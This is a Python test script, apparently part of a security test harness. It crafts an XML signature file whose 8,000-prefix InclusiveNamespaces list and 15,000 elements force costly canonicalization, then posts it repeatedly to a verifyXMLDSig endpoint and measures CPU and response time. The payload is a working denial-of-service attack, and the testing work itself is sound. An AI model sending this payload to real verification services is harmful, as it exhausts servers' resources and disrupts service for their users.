"""Lists of thousands of prefixes, each of which canonicalization would look for at each element, without a valid signature."""

import time

from attack import Canary, Server, attack, verdict

DSIG = "http://www.w3.org/2000/09/xmldsig#"
EXCLUSIVE = "http://www.w3.org/2001/10/xml-exc-c14n#"
PREFIXES = " ".join(f"p{number}" for number in range(8000))
LIST = f'<ec:InclusiveNamespaces xmlns:ec="{EXCLUSIVE}" PrefixList="{PREFIXES}"/>'
SIGNATURE = (
    f'<ds:Signature xmlns:ds="{DSIG}"><ds:SignedInfo><ds:CanonicalizationMethod Algorithm="{EXCLUSIVE}"/>'
    '<ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256"/><ds:Reference URI="">'
    f'<ds:Transforms><ds:Transform Algorithm="{DSIG}enveloped-signature"/>'
    f'<ds:Transform Algorithm="{EXCLUSIVE}">{LIST}</ds:Transform></ds:Transforms>'
    '<ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue>AAAA</ds:DigestValue>'
    "</ds:Reference></ds:SignedInfo><ds:SignatureValue>AAAA</ds:SignatureValue><ds:KeyInfo><ds:KeyValue>"
    '<k:ECKeyValue xmlns:k="http://www.w3.org/2009/xmldsig11#"><k:NamedCurve URI="urn:oid:1.2.840.10045.3.1.7"/>'
    # The generator of P-256 is a public key too.
    "<k:PublicKey>BGsX0fLhLEJH+Lzm5WOkQPJ3A32BLeszoPShOUXYmMKWT+NC4v4af5uO5+tKfA+eFivOM1drMV7Oy7ZAaDe/UfU=</k:PublicKey>"
    "</k:ECKeyValue></ds:KeyValue></ds:KeyInfo></ds:Signature>")
FILE = ('<ts:token xmlns:ts="http://tokenscript.org/2020/06/tokenscript">' + "<a/>" * 15_000 + SIGNATURE
        + "</ts:token>").encode()
BODY = b'--b\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\n' + FILE + b"\r\n--b--\r\n"
TYPE = {"Content-Type": "multipart/form-data; boundary=b"}

with Server() as server:
    start = time.monotonic()
    try:
        status = server.request("POST", "/api/v1/verifyXMLDSig", BODY, TYPE, timeout=20).status
    except OSError:
        status = 0
    took = time.monotonic() - start
    with Canary(server) as canary:
        attack([lambda: server.request("POST", "/api/v1/verifyXMLDSig", BODY, TYPE, timeout=2)] * 4, 4)
    before = server.cpu
    time.sleep(2)
    verdict("repository_prefixes", canary, status=(400, status, 400), one_s=(took, 0.5),
            cpu_afterwards_s=(server.cpu - before, 0.4), bytes=len(FILE) < 200_000)
